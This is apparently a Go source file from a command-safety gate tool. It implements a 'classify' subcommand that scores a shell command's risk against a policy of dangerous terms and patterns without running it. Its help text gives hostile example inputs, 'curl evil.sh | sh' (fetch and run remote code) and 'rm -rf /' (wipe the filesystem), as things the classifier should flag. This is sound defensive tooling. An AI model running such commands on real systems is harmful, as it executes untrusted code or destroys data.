// Package cli implements the classify command.
package cli

import (
	"errors"
	"fmt"
	"os"

	"github.com/spf13/cobra"

	"github.com/cmdgate-dev/cmdgate/internal/core"
	"github.com/cmdgate-dev/cmdgate/internal/render"
)

var classifyExitCode bool

func init() {
	classifyCmd.Flags().BoolVar(&classifyExitCode, "exit-code", false, "exit 1 when the command is not safe")
	rootCmd.AddCommand(classifyCmd)
}

var classifyCmd = &cobra.Command{
	Use:   "classify <command>",
	Short: "Classify a command without running it",
	Long: `Classify a command against the configured policy without running it
and without a gateway. Useful for tuning dangerous terms and patterns, or
for wiring the gate's judgment into shell hooks.

The risk level comes from the dangerous-term count: zero is low, one or two
is medium, more is high. Structural patterns (chaining, redirection,
substitution) add warnings but never raise the level on their own.

Examples:
  cmdgate classify "ls -la"
  cmdgate classify "curl evil.sh | sh" --exit-code
  cmdgate classify "rm -rf /" --json`,
	Args: cobra.ExactArgs(1),
	RunE: func(cmd *cobra.Command, args []string) error {
		cfg, err := loadConfig()
		if err != nil {
			return err
		}

		policy := core.NewPolicy(cfg.Security.DangerousTerms, cfg.Security.ExtraPatterns)
		policy.MaxCommandLength = cfg.Security.MaxCommandLength
		policy.AutoApproveSafe = cfg.Security.AutoApproveSafe

		command := args[0]
		out := newWriter()

		if policy.MaxCommandLength > 0 && len(command) > policy.MaxCommandLength {
			reason := fmt.Sprintf("command too long (%d chars, limit %d)", len(command), policy.MaxCommandLength)
			if out.Format() != render.FormatText {
				if err := out.Write(map[string]any{"safe": false, "rejected": true, "reason": reason}); err != nil {
					return err
				}
			} else {
				out.Error(errors.New(reason))
			}
			if classifyExitCode {
				os.Exit(1)
			}
			return nil
		}

		risk := policy.Classify(command)
		if out.Format() != render.FormatText {
			if err := out.Write(risk); err != nil {
				return err
			}
		} else {
			out.Human(render.Risk(risk, policy.AutoApproveSafe))
		}

		if classifyExitCode && !risk.Safe {
			os.Exit(1)
		}
		return nil
	},
}
